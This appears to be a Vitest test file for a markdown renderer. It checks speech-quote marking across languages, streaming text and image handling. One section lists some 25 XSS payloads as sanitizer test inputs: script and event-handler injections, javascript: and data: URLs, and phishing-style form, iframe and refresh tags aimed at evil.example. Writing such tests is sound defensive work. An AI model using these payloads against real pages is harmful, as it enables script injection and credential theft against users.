// @vitest-environment jsdom
import { describe, expect, test } from 'vitest'
import { GrowingProse } from './growing'
import { prose } from './markdown'
import type { Allowed } from './sanitize'

const shut: Allowed = { outsideMedia: false, heldLabel: ({ alt }) => `Show ${alt}`, plainLabel: ({ alt }) => `${alt} is elsewhere` }

/** The text as it stands in the page while more is being written. */
function grown(...pieces: string[]): string {
  const box = document.createElement('div')
  const growing = new GrowingProse(box, shut)
  for (const piece of pieces) growing.append(piece)
  return box.innerHTML.trim()
}

function html(text: string, allowed = shut): string {
  const box = document.createElement('div')
  box.append(prose(text, allowed))
  return box.innerHTML.trim()
}

test('a list begins where its writer began it, and cells span what they span', () => {
  expect(html('349. The lamp turns.')).toBe('<ol start="349">\n<li>The lamp turns.</li>\n</ol>')
  expect(html('<table><tr><td colspan="2" align="center">a</td></tr></table>')).toContain('<td colspan="2" align="center">a</td>')
})

describe('speech is marked and actions are emphasised', () => {
  test.each([
    ['straight', 'He said "come in" softly.', '<p>He said <span class="speech">"come in"</span> softly.</p>'],
    ['curly', '“Come in.”', '<p><span class="speech">“Come in.”</span></p>'],
    ['Chinese', '她说：「进来。」', '<p>她说：<span class="speech">「进来。」</span></p>'],
    ['French', '« Entrez »', '<p><span class="speech">« Entrez »</span></p>'],
    ['action', '*bows* "Hi"', '<p><em>bows</em> <span class="speech">"Hi"</span></p>'],
    ['emphasis inside', '"You *must* go"', '<p><span class="speech">"You <em>must</em> go"</span></p>'],
    ['speech inside an action', '*he says "hi" and waves*', '<p><em>he says <span class="speech">"hi"</span> and waves</em></p>'],
    ['an inch', 'a 5" nail', '<p>a 5" nail</p>'],
    ['a curly one that goes on in the next paragraph', '“One\n\n“Two”', '<p><span class="speech">“One</span></p>\n<p><span class="speech">“Two”</span></p>'],
    ['across an emphasis', '*he said "hi* there"', '<p><em>he said "hi</em> there"</p>'],
    ['in code', '`"a"`', '<p><code>"a"</code></p>'],
    ['speech within speech', '“He said ‘go’ and “now”,” she says', '<p><span class="speech">“He said ‘go’ and “now”,”</span> she says</p>'],
    ['single marks', '‘It’s Tom’s,’ he said. Don’t.', '<p><span class="speech">‘It’s Tom’s,’</span> he said. Don’t.</p>'],
    ['an apostrophe set wrong', '‘tis Tom’s cat', '<p>‘tis Tom’s cat</p>'],
    ['Chinese within Chinese', '她說「他說『走』。」了', '<p>她說<span class="speech">「他說『走』。」</span>了</p>'],
    ['Chinese, curly', '她说：“你好，‘朋友’。”', '<p>她说：<span class="speech">“你好，‘朋友’。”</span></p>'],
    ['Chinese, straight', '她说"你好"了', '<p>她说<span class="speech">"你好"</span>了</p>'],
    ['German', '»Ja«, sagte er. „Nein“, sie.', '<p><span class="speech">»Ja«</span>, sagte er. <span class="speech">„Nein“</span>, sie.</p>'],
    ['two inches', 'a 5" and a 6" nail', '<p>a 5" and a 6" nail</p>'],
    ['around an action', '"Go," *she waves,* "now."', '<p><span class="speech">"Go,"</span> <em>she waves,</em> <span class="speech">"now."</span></p>'],
    ['a whole emphasis', '"*Go*" *"now"*', '<p><span class="speech">"<em>Go</em>"</span> <em><span class="speech">"now"</span></em></p>'],
    ['two on a line', '"A" or "B"', '<p><span class="speech">"A"</span> or <span class="speech">"B"</span></p>'],
  ])('%s', (_, text, expected) => {
    expect(html(text)).toBe(expected)
  })

  test('while it is being written, an open quotation is marked already', () => {
    expect(grown('"Come')).toBe('<p><span class="speech">"Come</span></p>')
    expect(grown('*he bo')).toBe('<p><em>he bo</em></p>')
    expect(grown('**he bo')).toBe('<p><strong>he bo</strong></p>')
    expect(grown('*he says "go')).toBe('<p><em>he says <span class="speech">"go</span></em></p>')
    expect(grown('‘Come')).toBe('<p><span class="speech">‘Come</span></p>')
    expect(grown('她說「走')).toBe('<p>她說<span class="speech">「走</span></p>')
  })
})

describe('hostile markup is harmless', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<div class="dialog veil" id="app" name="cookie">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://x.example" onclick=alert(1) target=_self>x</a>',
    '`<img src=x onerror=alert(1)>`',
    '"<b onmouseover=alert(1)>said</b>"',
  ])('%s', (text) => {
    for (const allowed of [shut, { ...shut, outsideMedia: true }]) {
      const box = document.createElement('div')
      box.append(prose(text, allowed))
      for (const element of box.querySelectorAll('*')) {
        expect(['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'INPUT', 'STYLE', 'BASE', 'META', 'LINK', 'svg', 'SVG', 'MATH', 'VIDEO', 'AUDIO']).not.toContain(element.tagName)
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^id$|^name$/)
          expect(value).not.toMatch(/^\s*(java\s*script|vbscript|data:text|data:image\/svg)/i)
        }
        if (!element.matches('.held-image')) expect(element.className).toMatch(/^(speech)?$/)
        if (element.tagName === 'A') expect(element.getAttribute('rel')).toContain('noopener')
      }
    }
  })
})

test('pictures of other hosts wait behind a button', () => {
  expect(html('![a map](https://elsewhere.example/map.png)')).toBe(
    '<p><button type="button" class="held-image" data-host="elsewhere.example">Show a map</button></p>',
  )
})

test.each([true, false])('pictures that come over plain HTTP never load: there is a link in their place', (outsideMedia) => {
  const box = document.createElement('div')
  box.append(prose('![a map](http://elsewhere.example/map.png)', { ...shut, outsideMedia }))
  expect(box.querySelector('img, button')).toBeNull()
  expect(box.querySelector('a')?.getAttribute('href')).toBe('http://elsewhere.example/map.png')
  expect(box.querySelector('a')?.rel).toContain('noopener')
  expect(box.textContent?.trim()).toBe('a map is elsewhere')
})

test('pictures of other hosts load once they are allowed', () => {
  const box = document.createElement('div')
  box.append(prose('![a map](https://elsewhere.example/map.png)', { ...shut, outsideMedia: true }))
  expect(box.querySelector('img')?.getAttribute('src')).toBe('https://elsewhere.example/map.png')
  expect(box.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer')
})

test('single line ends are kept, as people write them', () => {
  expect(html('one\ntwo')).toBe('<p>one<br>\ntwo</p>')
})
